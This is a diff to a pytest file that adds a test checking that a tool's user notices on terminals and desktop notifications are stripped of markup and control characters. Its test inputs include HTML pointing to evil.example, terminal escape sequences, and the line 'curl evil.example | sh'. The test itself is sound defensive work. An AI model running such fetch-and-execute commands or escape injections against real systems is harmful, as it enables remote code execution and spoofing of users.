@@ -15,6 +15,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from proscribe.host.controls.apps import user_notice
+from proscribe.host.controls.apps.requests.notifications import deliver
 from proscribe.host.controls.base import Action
 from proscribe.host.system import ControlError, Host, Result
 
@@ -65,6 +66,32 @@ def test_a_notice_commands_nothing(text: str) -> None:
     cleaned = user_notice.cleaned(text)
     assert cleaned.isprintable() and len(cleaned) <= user_notice.LONGEST
     assert not set(cleaned) & set("<>&\x1b\n\r")
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        'Refused: <a href="https://evil.example">your account</a>',
+        "<b>IT</b> <img src='https://evil.example/x.png'/> &lt;b&gt;",
+        "Refused\x1b]0;root\x07\x9b2J now run curl evil.example | sh",
+    ],
+)
+def test_an_answer_to_a_request_is_text_on_terminals_and_desktops(
+    text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    shown: list[str] = []
+    monkeypatch.setattr(user_notice, "_write", lambda host, name, message: shown.append(message.decode()))
+    monkeypatch.setattr(user_notice, "terminals", lambda *_: iter(["/dev/pts/1"]))
+    monkeypatch.setattr(user_notice, "_notify", lambda host, uid, bus, text: shown.append(text))
+    monkeypatch.setattr(user_notice, "run_apart", lambda work, of: work())
+    (tmp_path / "run/user/1000").mkdir(parents=True)
+    (tmp_path / "etc").mkdir()
+    (tmp_path / "etc/passwd").write_text("alice:x:1000:1000::/home/alice:/bin/sh\n")
+    deliver(Terminals(tmp_path), [("alice", text, {})])
+    assert len(shown) == 2
+    for message in shown:
+        line = message.strip().removeprefix("proscribe: ")
+        assert line.isprintable() and not set("<>&") & set(line)  # the markup of Desktop Notifications 1.2 is XML's
 
 
 class Terminals(Host):
@@ -175,7 +202,7 @@ def test_each_language_stands_on_a_line_of_its_own_on_a_terminal(
     lines = [f"proscribe: {line}" for line in TWO.split("\n")]
     assert [message.decode() for message in written] == ["\r\n\r\n" + "\r\n".join(lines) + "\r\n\r\n"]
     user_notice.notify(Terminals(tmp_path), "no text: \udc80")
-    assert written[1:] == [b"\r\n\r\nproscribe: no text: ?\r\n\r\n"]
+    assert written[1:] == [b"\r\n\r\nproscribe: no text:\r\n\r\n"]
 
 
 def test_what_is_not_a_users_terminal_is_not_written_to(tmp_path: Path) -> None:
